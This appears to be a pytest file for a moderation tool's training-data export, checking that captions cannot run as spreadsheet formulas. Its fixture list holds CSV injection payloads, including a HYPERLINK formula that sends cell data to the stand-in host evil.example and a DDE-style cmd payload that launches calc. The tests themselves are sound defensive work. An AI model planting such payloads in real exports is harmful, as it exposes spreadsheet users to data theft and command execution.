"""``salingjaga export-training`` writes captions from anyone who posts: opened in a
spreadsheet to review labels, no cell may run as a formula; ``salingjaga train`` still reads
the exact text back."""

from __future__ import annotations

import csv
import io

from typer.testing import CliRunner

from salingjaga.cli import app as cli_app
from salingjaga.core.csvsafe import FORMULA_START, neutralise, restore_cell
from salingjaga.detection.text.classifier import read_examples
from salingjaga.detection.text.training import decided_examples
from tests.conftest import bearer
from tests.moderation.helpers import make_content, notice_body

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik di sini")',
    "+62 812 0000 pilih nomor 2",
    "-1+1 suara tidak sah",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 dengan tab",
    "'=sudah berpetik",
    "Sore yang cerah di taman kota",
]


def _decide_all(client, world) -> None:
    service = world.key("service")
    flagger = world.key("user")
    moderator = world.key("moderator")
    for caption in HOSTILE:
        item = make_content(client, service, caption=caption)
        r = client.post("/api/v1/notices", json=notice_body(item), headers=bearer(flagger))
        assert r.status_code in (200, 201, 202), r.text
    while True:
        claimed = client.post("/api/v1/queue/claim", headers=bearer(moderator))
        if claimed.status_code == 204:
            return
        case = claimed.json()
        r = client.post(f"/api/v1/cases/{case['id']}/decisions", headers=bearer(moderator), json={
            "action": "remove", "policy": "misinformation", "facts": "Hostile caption."})
        assert r.status_code in (200, 201), r.text


def test_exported_cells_cannot_become_formulas_and_train_reads_them_back(client, world, db, settings,
                                                                          tmp_path):
    _decide_all(client, world)
    with db.session() as s:
        expected = sorted(decided_examples(s))
    assert len(expected) == len(HOSTILE)
    out = tmp_path / "training.csv"
    r = CliRunner().invoke(cli_app, ["export-training", "--out", str(out),
                                     "--database-url", settings.database_url])
    assert r.exit_code == 0, r.output
    raw = out.read_text("utf-8")
    rows = list(csv.reader(io.StringIO(raw)))
    assert rows[0] == ["text", "label"] and len(rows) == len(HOSTILE) + 1
    for text, label in rows[1:]:
        assert not text.startswith(FORMULA_START), text
        assert not label.startswith(FORMULA_START), label
    cells = {text for text, _ in rows[1:]}
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"klik di sini\")" in cells
    assert "''=sudah berpetik" in cells  # one more apostrophe, so reading back is exact
    assert "Sore yang cerah di taman kota" in cells
    # the file `salingjaga train` reads gives back exactly what was decided
    with out.open(encoding="utf-8", newline="") as fh:
        assert sorted(read_examples(fh)) == expected


def test_export_to_stdout_is_neutralised_too(client, world, settings):
    _decide_all(client, world)
    r = CliRunner().invoke(cli_app, ["export-training", "--database-url", settings.database_url])
    assert r.exit_code == 0, r.output
    rows = list(csv.reader(io.StringIO(r.stdout)))
    texts = [row[0] for row in rows[1:] if row]
    assert texts and not any(t.startswith(FORMULA_START) for t in texts)


def test_neutralise_round_trips_any_text():
    for text in ["=1", "'=1", "''+x", "'plain", "plain", "", "-", "@", "\r\n", "''"]:
        assert restore_cell(neutralise(text)) == text
    assert neutralise(-3) == -3 and neutralise(None) == "" and neutralise(True) == "true"
